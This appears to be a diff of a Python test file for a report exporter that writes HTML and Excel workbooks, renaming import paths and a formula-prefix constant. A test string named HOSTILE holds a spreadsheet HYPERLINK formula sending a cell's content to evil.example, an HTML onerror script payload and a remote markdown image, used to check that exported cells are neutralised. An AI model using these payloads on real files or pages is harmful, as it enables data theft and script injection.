@@ -13,13 +13,13 @@ from openpyxl import load_workbook
 from analyzer.answers.types import Answer, Number, Plan, Status, Task
 from analyzer.counting.types import Count, Row, Table
 from analyzer.errors import UsageError
-from analyzer.exports.answer_html import answer_html
-from analyzer.exports.answer_sheets import answer_sheets
-from analyzer.exports.method import Method
-from analyzer.exports.pictures import picture
-from analyzer.exports.workbook import workbook_bytes
 from analyzer.index.types import Hit
-from analyzer.store.output_files import FORMULA, safe_text, write_whole
+from analyzer.reports.answer_html import answer_html
+from analyzer.reports.answer_sheets import answer_sheets
+from analyzer.reports.report_method import Method
+from analyzer.reports.svg_charts import picture
+from analyzer.reports.xlsx_sheets import workbook_bytes
+from analyzer.store.output_files import FORMULA_STARTS, safe_text, write_whole
 from analyzer.types import Citation, Claim
 
 HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1) <img src=http://evil.example/x onerror=alert(1)> ![x](http://evil.example)'
@@ -101,7 +101,7 @@ def test_a_workbook_holds_answer_figures_table_verbatims_and_method():
     assert verbatims[2][5].startswith("opposite of: ")
 
 
-@given(st.sampled_from(FORMULA), st.text(max_size=40))
+@given(st.sampled_from(FORMULA_STARTS), st.text(max_size=40))
 def test_no_cell_is_a_formula_or_a_link(start, rest):
     text = start + rest
     content = workbook_bytes([("Sheet", ("a",), [(text,), (HOSTILE,)])])
